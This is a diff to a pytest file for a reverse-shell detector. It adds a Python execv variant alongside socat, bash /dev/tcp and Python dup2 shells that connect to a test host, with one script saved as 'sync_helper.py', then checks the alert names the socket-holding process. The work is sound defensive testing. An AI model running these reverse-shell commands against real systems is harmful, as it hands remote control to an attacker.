@@ -382,11 +382,13 @@ for fd in (0, 1, 2):
     os.dup2(s.fileno(), fd)
 subprocess.call(["/bin/sh", "-i"])
 '''
+# The same, but the shell replaces the interpreter in the same process (the socket's own fd is close-on-exec).
+PY_EXECV_SHELL = PY_DUP2_SHELL.replace('subprocess.call(["/bin/sh", "-i"])', 'os.execv("/bin/sh", ["sh", "-i"])')
 
 
-@pytest.mark.parametrize("tool", ["socat-exec", "bash-dev-tcp", "python-dup2"])
+@pytest.mark.parametrize("tool", ["socat-exec", "bash-dev-tcp", "python-dup2", "python-execv"])
 def test_reverse_shell(net, tmp_path, tool):
-    port = {"socat-exec": 4444, "bash-dev-tcp": 4445, "python-dup2": 4446}[tool]
+    port = {"socat-exec": 4444, "bash-dev-tcp": 4445, "python-dup2": 4446, "python-execv": 4447}[tool]
     if tool == "socat-exec":
         cmd = ["socat", f"TCP:{HOST_IP}:{port}", "EXEC:bash -li,pty,stderr,setsid"]
         mentions = [HOST_IP, str(port), "EXEC:bash -li"]
@@ -395,7 +397,7 @@ def test_reverse_shell(net, tmp_path, tool):
         mentions = [HOST_IP, str(port), f"/dev/tcp/{HOST_IP}/{port}"]
     else:
         script = tmp_path / "sync_helper.py"
-        script.write_text(PY_DUP2_SHELL)
+        script.write_text(PY_DUP2_SHELL if tool == "python-dup2" else PY_EXECV_SHELL)
         cmd = [PYTHON, script, HOST_IP, port]
         mentions = [HOST_IP, str(port)]
     episode = f"ep-{tool}"
@@ -416,9 +418,11 @@ def test_reverse_shell(net, tmp_path, tool):
     alert = alerts(docs, "reverse_shell")[0]
     lag = report(f"reverse_shell {tool}", run, alert, attempt, "the shell's connect")
     assert 0 <= lag <= LIVENESS_S, f"alert {lag * 1000:+.1f} ms after the connection it is about: {get(alert, 'message')}"
-    # The alert names a process that holds the socket: the one that connected, or a shell it started since.
+    # The alert names a process that holds the socket: the one that connected, a shell it started since,
+    # or the shell it exec'd into.
     holders = [get(conn, "process.args")] + [get(d, "process.args") for d in select(docs, "process_started")
-                                             if get(d, "process.parent.pid") == shell_pid and ts(d) >= ts(conn)]
+                                             if shell_pid in (get(d, "process.parent.pid"), get(d, "process.pid"))
+                                             and ts(d) >= ts(conn)]
     assert get(alert, "process.args") in holders, (get(alert, "process.args"), holders)
     assert_alert(alert, "reverse_shell", episode, shell_pid, mentions, evidence=conn)
 
